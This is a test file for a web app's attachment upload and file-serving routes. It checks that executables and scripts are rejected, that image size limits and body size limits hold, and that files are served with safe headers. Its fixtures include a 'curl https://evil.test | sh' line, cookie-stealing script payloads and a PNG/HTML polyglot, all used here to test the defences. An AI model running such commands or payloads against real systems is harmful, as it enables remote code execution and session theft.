import { Readable } from 'node:stream';
import { ATTACHMENT_MESSAGES, AttachmentSchema } from '@qip/shared-contracts';
import { testDialects } from './helpers/databases';
import { setUpTenantApp, type Tenants } from './helpers/tenants';
import type { TestApp } from './helpers/testApp';
import { dataUrl, PNG_1X1, pngDeclaring } from './helpers/uploads';
import { errorOf, jsonOf } from './helpers/json';

const PROGRAM = ATTACHMENT_MESSAGES.programOrScript;

describe.each(testDialects())('what an upload may be, and how files are served (%s)', (dialect) => {
  let t: TestApp;
  let u: Tenants;

  setUpTenantApp(dialect, (app, tenants) => {
    t = app;
    u = tenants;
  });

  const uploadLogo = (bytes: Buffer, fileName = 'logo.png', claimedType = 'image/png') =>
    t.as(u.bluegum, {
      method: 'POST',
      url: '/api/attachments',
      payload: {
        entity: 'centers',
        entity_id: u.bluegumCenter,
        name: 'center_logo',
        title: 'logo',
        base64_image: dataUrl(bytes, claimedType),
        file_name: fileName,
      },
    });

  const refusal = (message: string) => ({ field: 'body.base64_image', message });

  it.each([
    ['an ELF executable', Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(64)])],
    ['a Windows program (MZ)', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(126), Buffer.from('PE\0\0')])],
    ['a Mach-O program', Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe]), Buffer.alloc(60)])],
    ['a shell script', Buffer.from('#!/bin/sh\ncurl https://evil.test | sh\n')],
    ['an HTML page', Buffer.from('<!DOCTYPE html><html><script>alert(document.cookie)</script></html>')],
    ['an HTML fragment after blanks', Buffer.from('\n\n  <script>alert(1)</script>')],
    ['an SVG', Buffer.from('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>')],
    ['a JavaScript file', Buffer.from('function steal() { return document.cookie; }\n')],
  ])('refuses %s with 400 saying programs and scripts cannot be uploaded', async (_what, bytes) => {
    const response = await uploadLogo(bytes, 'logo.png');
    expect(response.statusCode).toBe(400);
    expect(errorOf(response).fields).toEqual([refusal(PROGRAM)]);
  });

  it.each([
    [30000, 30000],
    [10001, 10],
    [10, 10001],
    [8000, 6000],
  ])('refuses a PNG declaring %i x %i pixels with 400 and says how large an image may be', async (width, height) => {
    const response = await uploadLogo(pngDeclaring(width, height));
    expect(response.statusCode).toBe(400);
    expect(errorOf(response).fields).toEqual([refusal(ATTACHMENT_MESSAGES.tooManyPixels)]);
    expect(errorOf(response).message).toContain('10,000 pixels a side and 40 megapixels');
  });

  it('takes an image of 10000 x 4000 pixels (the largest side and 40 megapixels)', async () => {
    const response = await uploadLogo(pngDeclaring(10000, 4000));
    expect(response.statusCode).toBe(201);
    expect(response.json()).toMatchObject({ width: 10000, height: 4000 });
  });

  it('serves a PNG with HTML appended, named evil.html, as a PNG with a .png name and nosniff', async () => {
    const polyglot = Buffer.concat([PNG_1X1, Buffer.from('<html><script>alert(document.cookie)</script></html>')]);
    const created = await uploadLogo(polyglot, 'evil.html', 'text/html');
    expect(created.statusCode).toBe(201);
    expect(created.json()).toMatchObject({ contentType: 'image/png', fileName: 'evil.png' });

    const file = await t.as(u.bluegum, { method: 'GET', url: jsonOf(created, AttachmentSchema).url });
    expect(file.statusCode).toBe(200);
    expect(file.headers['content-type']).toBe('image/png');
    expect(file.headers['x-content-type-options']).toBe('nosniff');
    expect(file.headers['content-disposition']).toBe(`inline; filename="evil.png"; filename*=UTF-8''evil.png`);
    expect(file.headers['content-security-policy']).toBe("default-src 'none'; sandbox");
  });

  it('names a file in the header safely whatever its name (RFC 6266 and 5987)', async () => {
    const created = await uploadLogo(PNG_1X1, 'École "logo"\r\n\u202E.png');
    const file = await t.as(u.bluegum, { method: 'GET', url: jsonOf(created, AttachmentSchema).url });
    expect(file.headers['content-disposition']).toBe(
      `inline; filename="Ecole _logo_.png"; filename*=UTF-8''%C3%89cole%20%22logo%22.png`,
    );
  });

  it.each([
    ['a PDF', 'application/pdf', 'report.pdf'],
    ['a zip file', 'application/zip', 'photos.zip'],
    ['an SVG kept from before', 'image/svg+xml', 'drawing.svg'],
    ['a file of unknown type', 'application/octet-stream', 'notes.bin'],
  ])('serves %s as an attachment with its stored type, never inline', async (_what, contentType, fileName) => {
    const id = `file-${contentType.replace(/\W/g, '-')}`;
    const key = `centers/${u.bluegumCenter}/evidence/${id}`;
    await t.app.storage.put(key, Buffer.from('%PDF-1.4 or anything'), { contentType });
    await t.app.db
      .insertInto('attachments')
      .values({
        id,
        entity: 'centers',
        entity_id: u.bluegumCenter,
        center_id: u.bluegumCenter,
        name: 'evidence',
        label: '',
        title: 'evidence',
        file_name: fileName,
        storage_key: key,
        content_type: contentType,
        size_bytes: 20,
        width: null,
        height: null,
        created_by: u.bluegumId,
        created_at: new Date().toISOString(),
        updated_at: new Date().toISOString(),
      })
      .execute();

    const file = await t.as(u.bluegum, { method: 'GET', url: `/api/uploads/${id}` });
    expect(file.statusCode).toBe(200);
    expect(file.headers['content-type']).toBe(contentType);
    expect(file.headers['content-disposition']).toBe(
      `attachment; filename="${fileName}"; filename*=UTF-8''${fileName}`,
    );
    expect(file.headers['x-content-type-options']).toBe('nosniff');
  });
});

describe.each(testDialects())('request body limits (%s)', (dialect) => {
  let t: TestApp;
  let u: Tenants;

  setUpTenantApp(
    dialect,
    (app, tenants) => {
      t = app;
      u = tenants;
    },
    { env: { UPLOAD_MAX_BYTES: '3000' } },
  );

  it('answers a body over 1 MB on any other route with 413 naming the limit', async () => {
    const response = await t.app.inject({
      method: 'POST',
      url: '/oauth/token',
      payload: { grant_type: 'password', username: 'x'.repeat(1024 * 1024), password: 'x', client_id: 'qip-portal' },
    });
    expect(response.statusCode).toBe(413);
    expect(response.json()).toMatchObject({
      statusCode: 413,
      message: 'The request is too large: it may be at most 1 MB.',
    });
  });

  it('takes a body just under 1 MB on any other route (then judges it as usual)', async () => {
    const response = await t.as(u.director, {
      method: 'POST',
      url: '/oauth/token',
      payload: { grant_type: 'password', username: 'x'.repeat(1000 * 1000), password: 'x', client_id: 'qip-portal' },
    });
    expect(response.statusCode).toBe(400);
  });

  it("answers an upload body over what UPLOAD_MAX_BYTES needs with 413 naming the file's limit", async () => {
    const response = await t.as(u.bluegum, {
      method: 'POST',
      url: '/api/attachments',
      payload: {
        entity: 'centers',
        entity_id: u.bluegumCenter,
        name: 'center_logo',
        title: 'logo',
        base64_image: dataUrl(Buffer.concat([PNG_1X1, Buffer.alloc(100 * 1024)])),
      },
    });
    expect(response.statusCode).toBe(413);
    expect(errorOf(response).message).toBe('The file is too large. Please choose one of 3 KB or less.');
  });

  /** An upload sent in 1 KB pieces with no Content-Length, as a chunked request arrives. */
  const streamedUpload = (bytes: Buffer) => {
    const json = Buffer.from(
      JSON.stringify({
        entity: 'centers',
        entity_id: u.bluegumCenter,
        name: 'center_logo',
        title: 'logo',
        base64_image: dataUrl(bytes),
      }),
    );
    const pieces = Array.from({ length: Math.ceil(json.length / 1024) }, (_, i) =>
      json.subarray(i * 1024, (i + 1) * 1024),
    );
    return t.as(u.bluegum, {
      method: 'POST',
      url: '/api/attachments',
      headers: { 'content-type': 'application/json' },
      payload: Readable.from(pieces),
    });
  };

  it('takes an upload sent in pieces without a Content-Length', async () => {
    const response = await streamedUpload(PNG_1X1);
    expect(response.statusCode).toBe(201);
    expect(response.json()).toMatchObject({ contentType: 'image/png', sizeBytes: PNG_1X1.length });
  });

  it('refuses an upload sent in pieces once it passes the limit, with 413', async () => {
    const response = await streamedUpload(Buffer.concat([PNG_1X1, Buffer.alloc(100 * 1024)]));
    expect(response.statusCode).toBe(413);
    expect(errorOf(response).message).toBe('The file is too large. Please choose one of 3 KB or less.');
  });

  it('refuses an upload body shorter than its Content-Length says, with 400', async () => {
    const body = JSON.stringify({ entity: 'centers', entity_id: u.bluegumCenter });
    const response = await t.as(u.bluegum, {
      method: 'POST',
      url: '/api/attachments',
      headers: { 'content-type': 'application/json', 'content-length': String(body.length + 10) },
      payload: Readable.from([Buffer.from(body)]),
    });
    expect(response.statusCode).toBe(400);
  });

  it('refuses an upload before reading its body when the caller is not signed in', async () => {
    const response = await t.app.inject({
      method: 'POST',
      url: '/api/attachments',
      payload: { entity: 'centers', entity_id: u.bluegumCenter, base64_image: dataUrl(PNG_1X1) },
    });
    expect(response.statusCode).toBe(401);
  });

  it('takes only JSON on an upload route', async () => {
    const response = await t.as(u.bluegum, {
      method: 'POST',
      url: '/api/attachments',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      payload: `entity=centers&entity_id=${u.bluegumCenter}&name=center_logo&title=logo`,
    });
    expect(response.statusCode).toBe(415);
  });
});
